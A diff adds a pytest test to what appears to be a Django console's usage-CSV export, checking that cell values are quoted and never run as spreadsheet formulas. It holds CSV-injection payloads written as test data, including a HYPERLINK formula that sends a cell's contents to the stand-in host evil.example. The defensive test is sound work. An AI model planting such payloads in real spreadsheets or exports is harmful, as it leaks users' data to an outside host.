@@ -67,3 +67,18 @@ def test_usage_csv_has_the_page_totals(client, records):
     assert table[0] == ["model", "requests", "errors", "prompt_tokens", "completion_tokens",
                         "cached_prompt_tokens", "total_tokens"]
     assert table[1:] == [["big", "2", "1", "103", "50", "0", "153"], ["tiny", "3", "1", "31", "13", "0", "44"]]
+
+
+@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
+                                     "\t=1", "\r=1"])
+def test_usage_csv_cells_never_run_as_formulas(client, hostile):
+    owner = get_user_model().objects.create_user("ann")
+    key = apikey_create(owner=owner, name="k")[0]
+    usage_record_create(request_id="r1", endpoint="completions", status="ok", latency=0.1, api_key=key, user=owner,
+                        model_name=hostile, prompt_tokens=1, completion_tokens=1, end_user=hostile)
+    client.force_login(get_user_model().objects.create_user("root", is_staff=True))
+
+    for group in ("model", "end_user"):
+        table = list(csv.reader(io.StringIO(client.get(f"/console/usage.csv?group={group}").content.decode())))
+        assert table[1][0] == "'" + hostile  # shown as typed, as text
+        assert table[1][1:] == ["1", "0", "1", "1", "0", "2"]  # numbers stay numbers
